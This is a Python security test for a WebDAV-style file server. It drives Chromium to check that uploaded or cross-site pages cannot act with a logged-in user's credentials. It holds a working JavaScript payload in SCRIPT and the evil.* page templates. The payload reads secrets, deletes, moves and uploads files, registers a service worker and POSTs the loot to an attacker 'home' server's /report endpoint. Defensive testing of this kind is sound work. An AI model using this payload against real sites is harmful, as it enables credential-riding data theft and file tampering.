#!/usr/bin/env python3
"""A page in the folder, and a page of another site, try to act for whom looks at them in a browser that knows the password:
nothing is read, nothing is changed. Where the protection is off the very same pages succeed."""
import http.server
import json

from attack import *
from chromium import Chromium

SECRET = "nobody may read this"

# Each attempt gives what it got; what is forbidden throws. `site` is the server, `home` who waits for the booty.
SCRIPT = """
var site = '%(site)s', home = '%(home)s', got = {};
(document.querySelector('title') || {}).textContent = 'ran';
async function attempt(name, f) { try { got[name] = String(await f()); } catch (e) { got[name] = 'blocked'; } }
function ask(method, path, more) { return fetch(site + path, Object.assign({ method: method, credentials: 'include' }, more)); }
function xhr(method, path) {
  return new Promise(function (done, failed) {
    var x = new XMLHttpRequest();
    x.open(method, site + path); x.withCredentials = true;
    x.onload = function () { done(x.status + x.responseText); }; x.onerror = failed;
    x.send(method == 'PUT' ? 'x' : null);
  });
}
function part(kind, path) { /* a frame, script or picture */
  return new Promise(function (done, failed) {
    var e = document.createElementNS('http://www.w3.org/1999/xhtml', kind);
    e.onload = function () { done(e); }; e.onerror = failed;
    e.src = site + path;
    document.documentElement.appendChild(e);
  });
}
function form(path) { /* sent into a frame, so that we stay */
  return new Promise(function (done, failed) {
    var ns = 'http://www.w3.org/1999/xhtml', f = document.createElementNS(ns, 'form'), i = document.createElementNS(ns, 'iframe');
    i.name = 'into'; i.onload = done; f.target = 'into'; f.method = 'post'; f.enctype = 'text/plain'; f.action = site + path;
    document.documentElement.append(i, f); f.submit();
  });
}
async function all() {
  await attempt('read', async function () { return (await ask('GET', '/secret.txt')).text(); });
  await attempt('xhr', function () { return xhr('GET', '/secret.txt'); });
  await attempt('list', async function () { return (await ask('PROPFIND', '/', { headers: { Depth: '1' } })).status; });
  await attempt('script', async function () { await part('script', '/secret.js'); return booty; });
  await attempt('jobs', async function () { return (await part('iframe', '/.holdfast/jobs')).contentWindow.document.body.innerText; });
  await attempt('index', async function () { return (await part('iframe', '/')).contentWindow.document.body.innerText; });
  await attempt('put', async function () { return (await ask('PUT', '/put.txt', { body: 'x' })).status; });
  await attempt('put-xhr', function () { return xhr('PUT', '/put.txt'); });
  await attempt('delete', async function () { return (await ask('DELETE', '/victim.txt')).status; });
  await attempt('move', async function () { return (await ask('MOVE', '/moved.txt', { headers: { Destination: '/there.txt' } })).status; });
  await attempt('mkcol', async function () { return (await ask('MKCOL', '/made')).status; });
  await attempt('lock', async function () { return (await ask('LOCK', '/locked', { body: '<lockinfo/>' })).status; });
  await attempt('post', async function () { return (await ask('POST', '/put.txt', { mode: 'no-cors', body: 'x' })).type; });
  await attempt('form', async function () { await form('/put.txt'); return 'sent'; });
  await attempt('worker', async function () { return (await navigator.serviceWorker.register(site + '/secret.js')).scope; });
  await attempt('cookie', function () { document.cookie = 'mark=1'; if (!document.cookie) throw 0; return document.cookie; });
  await attempt('window', async function () {
    var w = window.open(site + '/secret.txt'), text = '';
    for (var i = 0; i < 100 && !text; i++) {
      await new Promise(function (r) { setTimeout(r, 20); });
      if (w.location.href != 'about:blank' && w.document.readyState == 'complete') text = w.document.body.innerText;
    }
    return text;
  });
  await fetch(home + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
  await attempt('top', function () { top.location = home + '/top'; });
}
all();
"""

HTML = """<!doctype html><html><head><title>quiet</title></head><body><img src="%(home)s/shown"><iframe src="/.holdfast/jobs"></iframe>
<iframe name="aside"></iframe><form method="post" action="/put.txt" target="aside"><input autofocus onfocus="this.form.submit()"></form><img src="/none" onerror="document.title='ran'">
<script>%(script)s</script></body></html>"""
XHTML = """<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head><body><img src="%(home)s/shown"/>
<script><![CDATA[%(script)s]]></script></body></html>"""
SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="this.querySelector('title').textContent = 'ran'">
<title>quiet</title><image xlink:href="%(home)s/shown" width="9" height="9"/><script><![CDATA[%(script)s]]></script></svg>"""
XML = """<?xml version="1.0"?><doc><html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head><img src="%(home)s/shown"/>
<script><![CDATA[%(script)s]]></script></html></doc>"""
PAGES = {"evil.html": HTML, "evil.xhtml": XHTML, "evil.svg": SVG, "evil.xml": XML}
TEXTS = ("evil.txt", "evil.js", "evil.css")  # the same bytes under names that promise nothing active


class Home(http.server.ThreadingHTTPServer):
    """The attacker's own server: gives the pages of `pages`, and keeps what is sent to it."""
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), HomeRequest)
        self.pages, self.seen, self.reports = {}, [], []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def url(self, host="127.0.0.1"):
        return "http://%s:%d" % (host, self.server_port)


class HomeRequest(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.seen.append(self.path)
        body = self.server.pages.get(self.path, "").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.path == "/report":
            self.server.reports.append(json.loads(body))
        self.do_GET()

    def log_message(self, *_):
        pass


def fill(s, home):
    script = SCRIPT % {"site": "", "home": home.url()}
    for name, page in PAGES.items():
        s.write(name, page % {"home": home.url(), "script": script})
    for name in TEXTS:
        s.write(name, HTML % {"home": home.url(), "script": script})
    s.write("secret.txt", SECRET)
    s.write("secret.js", "var booty = '%s';" % SECRET)
    s.write("victim.txt", "victim")
    s.write("moved.txt", "moved")


def changes(s):
    """Requests of the log that would change something, and what they were told."""
    return [(method, int(status)) for method, status in re.findall(r'"([A-Z]+) [^"]*" (\d+)', s.log())
            if method not in ("GET", "HEAD", "OPTIONS", "PROPFIND")]


def serve(*options, users=True):
    return Server(*options, users={"ann": "pw"} if users else None)


def log_in(s, browser):
    """The browser knows the password from here on, if there is one."""
    page = browser.open("http://%s%s:%d/secret.txt" % ("ann:pw@" if s.users else "", s.host, s.port))
    eventually(lambda: re.search(r' %s "GET /secret.txt" 200' % ("ann" if s.users else "-"), s.log()), "it is let in")
    return page


def uploaded(home, browser):
    """A page in the folder: its scripts do not run at all."""
    with serve() as s:
        fill(s, home)
        before = tree(s.root)
        page = log_in(s, browser)
        for name in PAGES:
            home.seen.clear()
            same(page.go(s.url + "/" + name), True, "%s can be looked at" % name)
            eventually(lambda: "/shown" in home.seen, "%s is shown with its pictures" % name)
            same((page.title(), home.reports, page.info()["url"]), ("quiet", [], s.url + "/" + name), name)
        for name in TEXTS:
            same(page.go(s.url + "/" + name), True)
            same("ran" in page.title(), False, "%s is text" % name)
        same(home.reports, [])
        same((tree(s.root), changes(s)), (before, []), "nothing was changed, nor tried")
    with serve("--active-content", "download") as s:
        fill(s, home)
        page = log_in(s, browser)
        same([page.go(s.url + "/" + name) for name in PAGES], [False] * len(PAGES), "no page is shown")
        same((home.reports, changes(s)), ([], []))
    return len(PAGES) + len(TEXTS)


def uploaded_unprotected(home, browser):
    """The same pages can do all that, where they are trusted: so they would have been noticed above."""
    with serve("--active-content", "trust") as s:
        for name in PAGES:
            fill(s, home)
            home.reports.clear()
            page = log_in(s, browser)
            page.go(s.url + "/" + name)
            eventually(lambda: home.reports, "%s runs" % name)
            got = home.reports[0]
            for what in ("read", "xhr", "script", "window"):
                same(SECRET in got[what], True, "%s: %s: %r" % (name, what, got))
            same((got["put"], got["delete"], got["mkcol"][:1]), ("201" if name == "evil.html" else "204", "204", "2" if name == "evil.html" else "4"),
                 "%s: %r" % (name, got))
            same((got["jobs"], got["index"]), ("blocked", "blocked"), "our pages are not framed even so")
            same(s.path("victim.txt").exists(), False, "%s: it is gone" % name)
    return len(got)


def foreign(home, browser, host, users):
    """A page of another site, by its port alone (host 127.0.0.1) or by its name (localhost)."""
    with serve(users=users) as s:
        fill(s, home)
        before = tree(s.root)
        page = log_in(s, browser)
        home.reports.clear()
        home.pages["/attack"] = HTML % {"home": home.url(host), "script": SCRIPT % {"site": s.url, "home": home.url(host)}}
        page.go(home.url(host) + "/attack")
        eventually(lambda: home.reports, "it runs")
        got = dict(home.reports[0])
        same(SECRET in str(got), False, "nothing was read: %r" % got)
        same(got.pop("cookie").count("mark="), 1, "its own")
        same((got.pop("form"), got.pop("post")), ("sent", "opaque"), "these go out")
        same({what: answer for what, answer in got.items() if answer != "blocked"}, {})
        same(tree(s.root), before, "nothing was changed")
        same([change for change in changes(s) if change != ("POST", 403)], [], "and the two were refused")
        same(len(changes(s)), 2)
        tried = len(home.reports[0])
    # what is allowed to use it can, by the same means
    with serve("--allow-origin", home.url(host), users=users) as s:
        fill(s, home)
        page = log_in(s, browser)
        home.reports.clear()
        home.pages["/attack"] = HTML % {"home": home.url(host), "script": SCRIPT % {"site": s.url, "home": home.url(host)}}
        page.go(home.url(host) + "/attack")
        eventually(lambda: home.reports, "it runs")
        got = home.reports[0]
        same((got["read"], got["list"], got["put"], got["delete"]), (SECRET, "207", "201", "204"), got)
        same((got["jobs"], got["script"], got["window"]), ("blocked",) * 3, "what it does not ask for properly it does not get")
    return tried


def cancel_button(browser):
    """Our own page may still do what it is for: a job's page cancels its job."""
    with Server("--heartbeat", "0.1", slow="renameat2=20000", match="slow") as s:
        s.write("slow", "x")
        job = s.request("MOVE", "/slow", {"Destination": "/moved", "Prefer": "respond-async, wait=0"}).get("location")
        page = browser.open(s.url + job)
        page.call("Runtime.evaluate", expression="window.confirm = function () { return true; }; document.querySelector('button[data-cancel]').click()")
        eventually(lambda: re.search(r'"DELETE %s" 202' % job, s.log()), "the button cancels")
        s.kill()


with temporary() as t, Chromium(t / "browser") as browser:
    home = Home()
    pages = uploaded(home, browser)
    means = uploaded_unprotected(home, browser)
    # Chromium sends a password along for a page of the same host alone, so for others there is none to be asked for.
    tried = foreign(home, browser, "127.0.0.1", True) + foreign(home, browser, "localhost", False)
    cancel_button(browser)
    figures(pages_in_the_folder=pages, means_of_each=means, attempts_of_other_sites=tried, secrets_read=0, files_changed=0)
